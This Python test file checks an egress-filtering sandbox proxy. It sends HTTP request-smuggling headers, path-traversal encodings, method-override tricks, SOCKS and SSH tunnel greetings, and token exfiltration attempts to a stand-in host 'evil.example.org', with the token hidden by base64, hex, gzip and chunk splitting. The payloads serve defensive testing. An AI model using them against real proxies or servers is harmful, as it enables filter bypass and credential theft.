#!/usr/bin/env python3
"""Requests, with and without TLS, and the secrets in them: the catalogue's groups E and F (docs/egress-tests.md).

Asserted are bytes: a server got one well-formed request that was allowed, or none. In both modes, root and rootless.
"""
import lab
from lab import VALUE

PUBLIC_PATHS = """
rules:
  - {id: site, hosts: [good.example.com], http: [{methods: [GET, POST], paths: ["/public/**"]}]}
  - {id: plain, hosts: [good.example.com], tls: plaintext, http: [{methods: [GET, POST], paths: ["/public/**"]}]}
"""
ANYTHING = "rules: [{hosts: [good.example.com], tls: plaintext, ports: [80, 8080, 8081]}]"
SECRET = """
rules:
  - {id: api, hosts: [api.example.com], websocket: allow}
  - {id: others, hosts: [also.example.com, evil.example.org], tls: inspect}
  - {id: plain, hosts: [api.example.com], tls: plaintext}
secrets:
  gh: {env: TOKEN, source: {env: CANARY}, shape: "prefix:ghp_", hosts: [api.example.com]%s}
"""


class Requests(lab.Lab):
    def test_an_absolute_target_names_what_host_names(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC_PATHS, """
for target, host in (("http://evil.example.org/public/a", "good.example.com"), ("http://good.example.com/public/a", "evil.example.org"),
                     ("http://good.example.com@evil.example.org/public/a", "good.example.com"), ("https://good.example.com/public/a", "good.example.com"),
                     ("http://good.example.com:81/public/a", "good.example.com"), ("ftp://good.example.com/public/a", "good.example.com"),
                     ("http://GOOD.example.com/public/b", "good.example.com")):
    tell(states(raw("good.example.com", 80, ask("GET " + target, host, last))))
tell(states(tls("good.example.com", ask("GET https://evil.example.org/public/a", "good.example.com", last))))
""")
            self.assertEqual(told, [[400], [400], [400], [400], [400], [400], [200], [400]], self.told)
            self.assertNotIn(b"/public/a", self.received("plain") + self.received("good"))
            self.assertIn(b"GET /public/b HTTP/1.1\r\n", self.received("plain"))
            self.assert_untouched("evil", "evil plain")

    def test_every_request_of_a_connection_is_judged(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC_PATHS, """
three = [ask("GET /public/1", "good.example.com"), ask("GET /secret", "good.example.com"), ask("DELETE /public/2", "good.example.com"),
         ask("GET /public/3", "evil.example.org"), ask("GET /public/4", "good.example.com", last)]
tell(states(raw("good.example.com", 80, b"".join(three))), states(tls("good.example.com", *three)))
c = http.client.HTTPSConnection("good.example.com", timeout=10); said = []
try:
    for path in ("/public/5", "/secret", "/public/6"):
        c.request("GET", path); answer = c.getresponse(); answer.read(); said.append(answer.status)
except Exception as error: said.append(str(error))
tell(said)
""")
            self.assertEqual(told, [[[200, 403, 403, 421, 200]] * 2, [200, 403, 200]], self.told)
            for name in ("plain", "good"):
                self.assertNotIn(b"secret", self.received(name))
                self.assertNotIn(b"DELETE", self.received(name))
            self.assert_untouched("evil", "evil plain")

    def test_a_host_behind_an_allowed_server_is_not_reached_by_its_name(self):
        """SNI of one, Host of the other: as one fronts a domain by another."""
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com, also.example.com], tls: inspect}]", """
tell(states(tls("good.example.com", ask("GET /x", "also.example.com"), ask("GET /y", "evil.example.org"), ask("GET /z", "good.example.com", last))))
""")
            self.assertEqual(told, [[421, 421, 200]], self.told)
            self.assertIn(b"GET /z ", self.received("good"))
            self.assertNotIn(b"GET /x ", self.received("good"))
            self.assert_untouched("evil")

    def test_a_server_gets_one_request_or_none(self):
        """What two servers could part in two ways."""
        bad = {
            "both": "Content-Length: 4\r\nTransfer-Encoding: chunked", "both, turned": "Transfer-Encoding: chunked\r\nContent-Length: 4",
            "two lengths": "Content-Length: 4\r\nContent-Length: 40", "two equal lengths": "Content-Length: 4\r\nContent-Length: 4", "a list": "Content-Length: 4, 4",
            "another coding": "Transfer-Encoding: xchunked", "identity last": "Transfer-Encoding: chunked, identity", "gzip": "Transfer-Encoding: gzip, chunked",
            "folded": "X: a\r\n b: c", "space before colon": "Content-Length : 4", "no name": ": 4", "NUL": "X: a\0b", "bare LF": "X: a\nTransfer-Encoding: chunked",
            "bare CR": "X: a\rY: b", "two hosts": "Host: evil.example.org", "plus": "Content-Length: +4", "hex": "Content-Length: 0x4", "huge": "Content-Length: 99999999999999999999",
            "many headers": "\r\n".join(f"X{n}: y" for n in range(201)), "large head": "X: " + "a" * 65536,
        }
        lines = ["GET  /public/s HTTP/1.1", " GET /public/s HTTP/1.1", "GET /public/s", "GET /public/s HTTP/0.9", "GET /public/s HTTP/2.0", "GET\t/public/s HTTP/1.1",
                 "\nGET /public/s HTTP/1.1", "G@T /public/s HTTP/1.1", "GET /public/s HTTP/1.1 x"]
        bodies = ["5\r\nabc\r\n0\r\n\r\n", "ffffffffffffffffff\r\n", "-1\r\n", "0x3\r\nabc\r\n0\r\n\r\n", "3\nabc\n0\n\n", "3;" + "a" * 70000 + "\r\nabc\r\n0\r\n\r\n",
                  "3\r\nabc\r\n0\r\nContent-Length: 9\r\nHost: evil.example.org\r\nX\r\n\r\n"]
        for caller in self.each_caller():
            told = self.inside(caller, "limits: {connections: 1000, connections_per_second: 10000}\n" + ANYTHING, f"""
def send(name, data):
    said = raw("good.example.com", 8080, data + ask("GET /smuggled", "good.example.com:8080"))
    tell(name, states(said)[:1])
for name, header in {bad!r}.items():
    send(name, f"POST /public/s HTTP/1.1\\r\\nHost: good.example.com:8080\\r\\n{{header}}\\r\\n\\r\\n0\\r\\n\\r\\n".encode("latin-1"))
for line in {lines!r}: send(line, f"{{line}}\\r\\nHost: good.example.com:8080\\r\\n\\r\\n".encode())
send("no host", b"GET /public/s HTTP/1.1\\r\\n\\r\\n")
""")
            self.assertEqual([line for line in told if line[1] and line[1][0] not in (400, 431, 501, 505)], [], self.told)
            self.assert_untouched("raw")
            # A head was sent before the body showed what it is; then nothing more, and no end.
            told = self.inside(caller, ANYTHING, f"""
for body in {bodies!r}:
    tell(states(raw("good.example.com", 8080, ("POST /public/s HTTP/1.1\\r\\nHost: good.example.com:8080\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + body).encode(),
                    ask("GET /smuggled", "good.example.com:8080"))))
""")
            for seen in map(bytes, self.servers["raw"].seen):
                self.assertTrue(seen.startswith(b"POST /public/s HTTP/1.1\r\n"), self.told)
                self.assertEqual(seen.count(b" HTTP/1.1\r\n"), 1)
                for part in (b"smuggled", b"evil", b"Content-Length"):
                    self.assertNotIn(part, seen)

    def test_only_a_websocket_is_upgraded_to(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], tls: plaintext, ports: [8080, 8081], websocket: allow}]", """
up = "Connection: Upgrade\\r\\nUpgrade: %s\\r\\nSec-WebSocket-Key: x\\r\\nSec-WebSocket-Version: 13\\r\\n"
for token in ("foo", "h2c", "tcp", "TLS/1.0"):
    tell(states(raw("good.example.com", 8080, ask("GET /" + token, "good.example.com:8080", up % token))))
tell(states(raw("good.example.com", 8080, ask("POST /x", "good.example.com:8080", up % "websocket"))))
tell(raw("good.example.com", 8081, ask("GET /ws", "good.example.com:8081", up % "websocket"))[-13:].decode())
""")
            self.assertEqual(told, [[403]] * 5 + ["secret-stream"], self.told)
            self.assert_untouched("raw")

    def test_a_websocket_needs_a_rule_that_says_so(self):
        for caller in self.each_caller():
            told = self.inside(caller, ANYTHING, """
tell(states(raw("good.example.com", 8081, ask("GET /ws", "good.example.com:8081", "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n"))))
""")
            self.assertEqual(told, [[403]], self.told)
            self.assert_untouched("switch")

    def test_no_server_changes_the_protocol_unasked(self):
        for caller in self.each_caller():
            told = self.inside(caller, ANYTHING, """
answer = raw("good.example.com", 8081, ask("GET /x", "good.example.com:8081", last))
tell(states(answer), b"secret-stream" in answer)
""")
            self.assertEqual(told, [[[502], False]], self.told)

    def test_a_rule_for_tls_allows_nothing_without_it(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], ports: [80, 443]}]", """
tell(states(raw("good.example.com", 80, ask("GET /x", "good.example.com", last))), states(raw("good.example.com", 443, ask("GET /x", "good.example.com:443", last))))
tell(states(raw("good.example.com", 80, ask("CONNECT evil.example.org:443", "evil.example.org:443"))))
""")
            self.assertEqual(told, [[[403], [403]], [405]], self.told)
            self.assert_untouched("plain", "good", "evil")

    def test_a_path_is_judged_and_sent_in_one_spelling(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC_PATHS, r"""
for target in ("/public/../secret", "/public/%2e%2e/secret", "/public/%252e%252e/secret", "/public/..;x/secret", "/public//../secret", "/public/..%2fsecret", "/public/..%5csecret",
               "/public/%5c..%5c..%5csecret", "/public/..\\secret", "/public/%00/../secret", "/%2570ublic/x", "/public/%c0%ae%c0%ae/secret", "/PUBLIC/x", "/../public/x", "public/x",
               "/public/%zz", "/public/" + "a" * 16500, "/x/../../public/y", "*"):
    tell(target[:40], states(raw("good.example.com", 80, ask("GET " + target, "good.example.com", last))))
for target in ("/%70ublic/a", "/public/./b", "/x/../public/c", "//public//d", "/public/e?x=/../secret", "/public/%7Ef"):
    tell(states(raw("good.example.com", 80, ask("GET " + target, "good.example.com", last))))
""")
            self.assertEqual([line for line in told[:19] if line[1] not in ([400], [403])], [], self.told)
            self.assertEqual(told[19:], [[200]] * 6, self.told)
            lines = [line for line in self.received("plain").splitlines() if b"HTTP/1" in line]
            self.assertEqual([line.split()[1].decode() for line in lines], ["/public/a", "/public/b", "/public/c", "/public/d", "/public/e?x=/../secret", "/public/~f"])

    def test_methods_are_those_of_the_rule_as_they_are_written(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], tls: plaintext, http: [{methods: [GET]}]}]", """
for method in ("get", "POST", "DELETE", "TRACE", "TRACK", "CONNECT"):
    tell(states(raw("good.example.com", 80, ask(method + (" evil.example.org:443" if method == "CONNECT" else " /x"), "good.example.com", last))))
tell(states(raw("good.example.com", 80, ask("GET /x", "good.example.com", last + "X-HTTP-Method-Override: DELETE\\r\\nX-Method-Override: PUT\\r\\nX-HTTP-Method: PUT\\r\\n"))))
""")
            self.assertEqual(told, [[403]] * 3 + [[405]] * 3 + [[200]], self.told)
            self.assertNotIn(b"override", self.received("plain").lower())

    def test_a_redirect_is_a_request_like_any_other(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], tls: inspect}]", """
for where in ("https://evil.example.org/a", "http://good.example.com/b", "http://127.0.0.1/c", "https://good.example.com/d"):
    done = subprocess.run(["curl", "-sSL", "-o", "/dev/null", "-w", "%{http_code}", "--proto-redir", "all", "https://good.example.com/redirect?" + where], capture_output=True, text=True)
    tell(where[-1], done.returncode, done.stdout)
""")
            self.assertEqual(told, [["a", 35, "302"], ["b", 0, "403"], ["c", 7, "302"], ["d", 0, "200"]], self.told)
            self.assert_untouched("evil", "plain", "host")

    def test_what_a_rule_says_of_requests_has_tls_opened(self):
        for caller in self.each_caller():
            told = self.inside(caller, PUBLIC_PATHS, """
tell([states(tls("good.example.com", ask(line, "good.example.com", last))) for line in ("GET /public/x", "DELETE /public/x", "GET /secret")])
tell(states(tls("good.example.com", ask("CONNECT evil.example.org:443", "good.example.com", last))))
""")
            self.assertEqual(told, [[[200], [403], [403]], [405]], self.told)
            self.assertEqual(self.received("good").count(b" HTTP/1.1\r\n"), 1)

    def test_bodies_of_any_size_and_half_a_connection_pass(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], tls: inspect}, {hosts: [good.example.com], tls: plaintext}]", """
body = b"a" * 5_000_000 + b"z"
tell(request("good.example.com", "/x", "POST", body)[:2], request("good.example.com", "/x", "POST", body, kind=http.client.HTTPConnection)[:2])
head = ask("POST /x", "good.example.com", f"Content-Length: {len(body)}\\r\\n" + last)
tell(states(raw("good.example.com", 80, head, body)))
tell([states(raw("good.example.com", 80, ask("GET /x", "good.example.com", last))) for _ in range(20)] == [[200]] * 20)
""")
            self.assertEqual(told, [[[200, "5000001 az\n"]] * 2, [200], True], self.told)


    def test_answers_of_every_kind_pass_as_they_are(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], tls: inspect}, {hosts: [good.example.com], tls: plaintext}]", """
for kind in (http.client.HTTPSConnection, http.client.HTTPConnection):
    c = kind("good.example.com", timeout=20); said = []
    for method, path in (("GET", "/204"), ("GET", "/304"), ("HEAD", "/x"), ("GET", "/chunks"), ("GET", "/x")):
        c.request(method, path); answer = c.getresponse(); said.append([answer.status, answer.read().decode(), answer.getheader("Content-Length")])
    tell(said)
waits = ask("POST /x", "good.example.com", "Content-Length: 3\\r\\nExpect: 100-continue\\r\\n" + last)
with socket.create_connection(("good.example.com", 80), 10) as s:
    s.sendall(waits); first = s.recv(4096); s.sendall(b"abc"); rest = b""
    while got := s.recv(4096): rest += got
tell(states(first), states(rest), rest[-5:].decode())
""")
            for said in told[:2]:
                self.assertEqual(said, [[204, "", None], [304, "", None], [200, "", "0"], [200, "abcde", None], [200, "GET /x\n", "7"]], self.told)
            self.assertEqual(told[2], [[100], [200], "3 ac\n"], self.told)

    def test_no_answer_leads_past_the_gateway(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], tls: inspect}]", """
tell(b"alt-svc" in tls("good.example.com", ask("GET /elsewhere", "good.example.com", last)).lower())
""")
            self.assertEqual(told, [False], self.told)
            self.assertIn(b"GET /elsewhere ", self.received("good"))

    def test_no_two_clients_share_a_connection(self):
        """Requests of one that may be sent again do, but its last one; another connection and another name have their own."""
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com, also.example.com], tls: plaintext}]", """
three = [ask("GET /a", "good.example.com"), ask("GET /b", "good.example.com"), ask("GET /c", "good.example.com", last)]
tell(states(raw("good.example.com", 80, *three)), *[states(raw(host, 80, ask("GET /d", host, last))) for host in ("good.example.com", "also.example.com")])
tell(states(raw("good.example.com", 80, ask("DELETE /e", "good.example.com"), ask("DELETE /f", "good.example.com", last))))
""")
            self.assertEqual(told, [[[200] * 3, [200], [200]], [200, 200]], self.told)
            self.assertEqual(self.servers["plain"].connections, 2 + 1 + 1 + 2, self.told)

    def test_other_ways_to_ask_for_a_proxy_are_no_http(self):
        for caller in self.each_caller():
            told = self.inside(caller, "rules: [{hosts: [good.example.com], ports: [80, 443]}, {hosts: [good.example.com], tls: plaintext}]", r"""
greetings = {"SOCKS 5": b"\5\1\0", "SOCKS 5 bind": b"\5\1\0\5\2\0\1\1\2\3\4\0\x50", "SOCKS 5 UDP": b"\5\1\0\5\3\0\1\1\2\3\4\0\x50",
             "SOCKS 4": b"\4\1\0\x50\1\2\3\4x\0", "SOCKS 4a": b"\4\1\0\x50\0\0\0\1x\0evil.example.org\0", "SSH": b"SSH-2.0-x\r\n",
             "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"}
for port in (80, 443):
    ends = together(lambda bytes_of: raw("good.example.com", port, bytes_of, end=False, wait=2).decode(), greetings.values())
    tell({name: how for name, how in zip(greetings, ends) if how != "ConnectionResetError"})
""")
            self.assertEqual(told, [{}, {}], self.told)
            self.assert_untouched()


class Secrets(lab.Lab):
    def assert_no_value(self, *names):
        for name in names or self.servers:
            self.assertNotIn(VALUE.encode(), self.received(name), name)

    def test_the_sandbox_has_a_placeholder_and_the_server_gets_the_value(self):
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % "", """
tell(request("api.example.com", headers={"Authorization": "Bearer " + token})[0], token[:4], len(token), "CANARY" in token, sorted(v for v in os.environ.values() if "CANARY" in v))
""")
            self.assertEqual(told, [[200, "ghp_", len(VALUE), False, []]], self.told)
            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))
            self.assertNotIn("CANARY", self.told["records"])

    def test_the_placeholder_of_another_sandbox_is_a_word_like_any_other(self):
        for caller in self.each_caller():
            other = self.inside(caller, SECRET % "", "tell(token)")[0]
            told = self.inside(caller, SECRET % "", f"""
tell(token != "{other}", request("api.example.com", headers={{"Authorization": "Bearer {other}"}})[0])
""")
            self.assertEqual(told, [[True, 200]], self.told)
            self.assertIn(other.encode(), self.received("good"))
            self.assert_no_value()

    def test_no_other_host_gets_it_and_no_redirect_takes_it_along(self):
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % "", """
bearer = {"Authorization": "Bearer " + token}
tell([request(host, headers=bearer)[::2] for host in ("evil.example.org", "also.example.com")])
tell(subprocess.run(["curl", "-sSL", "-w", "%{http_code}", "-o", "/dev/null", "-H", "X-Api-Key: " + token, "https://api.example.com/redirect"], capture_output=True, text=True).stdout)
""")
            self.assertEqual(told, [[[403, "secret_host"]] * 2, "403"], self.told)
            self.assert_untouched("evil")
            self.assertRegex(self.received("good"), b"(?i:X-Api-Key): " + VALUE.encode())

    def test_it_goes_nowhere_without_tls(self):
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % "", """
tell(request("api.example.com", headers={"Authorization": "Bearer " + token}, kind=http.client.HTTPConnection)[::2])
""")
            self.assertEqual(told, [[403, "secret_plaintext"]], self.told)
            self.assert_untouched("plain")

    def test_it_goes_to_its_places_alone(self):
        """Headers that servers repeat, other parts of a request, and bodies that nobody named."""
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % ', in: [{header: "*"}, {basic: any}]', """
for name in ("User-Agent", "Origin", "Referer", "X-Request-Id", "Cookie", "Accept-Language", "Via", "X-Forwarded-For", "Forwarded"):
    tell(name, *request("api.example.com", headers={name: token})[::2])
tell("query", *request("api.example.com", "/x?to=" + token)[::2])
tell("path", *request("api.example.com", "/" + token)[::2])
tell("json", *request("api.example.com", "/mail", "POST", json.dumps({"to": "me", "text": token}), {"Content-Type": "application/json"})[::2])
tell("parts", *request("api.example.com", "/mail", "POST", b"--b\\r\\nContent-Disposition: form-data; name=x\\r\\n\\r\\n" + token.encode() + b"\\r\\n--b--\\r\\n",
                       {"Content-Type": "multipart/form-data; boundary=b"})[::2])
tell("named", *request("api.example.com", headers={"X-My-Header": token})[::2])
""")
            self.assertEqual([line for line in told[:-1] if line[1:] != [403, "secret_place"]], [], self.told)
            self.assertEqual(told[-1][1:], [200, ""])
            self.assertEqual(self.received("good").count(VALUE.encode()), 1)

    def test_no_encoding_takes_the_placeholder_past_the_search(self):
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % "", """
import gzip, urllib.parse
raw_token = token.encode()
for name, text in {"plain": raw_token, "percent": b"%67" + raw_token[1:], "twice": urllib.parse.quote("%67").encode() + raw_token[1:], "json": b"\\\\u0067" + raw_token[1:],
                   "base64": base64.b64encode(b"x" + raw_token), "base64url": base64.urlsafe_b64encode(b"xy" + raw_token), "hex": raw_token.hex().upper().encode(),
                   "utf-16": token.encode("utf-16-le"), "between": b"a" * 70000 + raw_token + b"b"}.items():
    tell(name, *request("evil.example.org", "/p", "POST", text)[::2])
tell("gzip", *request("evil.example.org", "/p", "POST", gzip.compress(raw_token), {"Content-Encoding": "gzip"})[::2])
pieces = [raw_token[:7], raw_token[7:8], raw_token[8:]]
chunked = ask("POST /p", "evil.example.org", last + "Transfer-Encoding: chunked\\r\\n") + b"".join(b"%x\\r\\n%s\\r\\n" % (len(p), p) for p in pieces) + b"0\\r\\n\\r\\n"
tell("chunks", json.loads(tls("evil.example.org", chunked).split(b"\\r\\n\\r\\n", 1)[1])["reason"])
""")
            self.assertEqual([line for line in told[:-1] if line[1:] != [403, "secret_host"]], [], self.told)
            self.assertEqual(told[-1], ["chunks", "secret_host"])
            self.assert_untouched("evil")

    def test_no_more_often_than_its_rule_says(self):
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % "", """
tell(request("api.example.com", headers={"Authorization": f"{token} {token}"})[::2], request("api.example.com", headers={"Authorization": token, "X-Api-Key": token})[::2])
""")
            self.assertEqual(told, [[[403, "secret_occurrences"]] * 2], self.told)
            self.assert_untouched("good")

    def test_an_answer_has_the_placeholder_where_the_server_says_the_value(self):
        for caller in self.each_caller():
            told = self.inside(caller, SECRET % "", """
bearer = {"Authorization": "Bearer " + token}
tell(request("api.example.com", "/error", headers=bearer)[1] == f"the token {token} is not valid\\n", request("api.example.com", "/hex", headers=bearer)[1] == token.encode().hex())
""")
            self.assertEqual(told, [[True, True]], self.told)

    def test_tls_to_its_hosts_is_opened_whatever_allows_them(self):
        """The rule splices; a request with the secret never goes on as it is."""
        for caller in self.each_caller():
            told = self.inside(caller, SECRET.replace("hosts: [api.example.com], websocket: allow", "hosts: [api.example.com], tls: splice") % "", """
tell(request("api.example.com", headers={"Authorization": "Bearer " + token})[0], request("also.example.com")[0])
""")
            self.assertEqual(told, [[200, 200]], self.told)
            self.assertIn(b"Bearer " + VALUE.encode(), self.received("good"))
            self.assertEqual({r["tls"] for r in self.told["audit"]}, {"inspect"})

    def test_what_the_client_says_of_itself_gives_way_to_what_is_set(self):
        policy = SECRET.replace('env: TOKEN, ', "").replace('shape: "prefix:ghp_", ', "") % ", inject: {header: Authorization, prefix: 'Bearer '}"
        for caller in self.each_caller():
            told = self.inside(caller, policy, """
mine = {"Authorization": "Basic bWluZTptaW5l", "Cookie": "session=mine", "X-Api-Key": "mine", "Proxy-Authorization": "Basic mine"}
tell([request(host, headers=mine)[0] for host in ("api.example.com", "also.example.com")], "TOKEN" in os.environ)
""")
            self.assertEqual(told, [[[200, 200], False]], self.told)
            first, second = self.received("good").split(b"GET ")[1:]
            self.assertIn(b"Authorization: Bearer " + VALUE.encode(), first)
            self.assertNotIn(b"mine", first)
            # Another host has what its client sends, and no secret.
            self.assertIn(b"session=mine", second)
            self.assert_no_value("evil")
            self.assertNotIn(VALUE.encode(), second)


if __name__ == "__main__":
    lab.main(__file__)
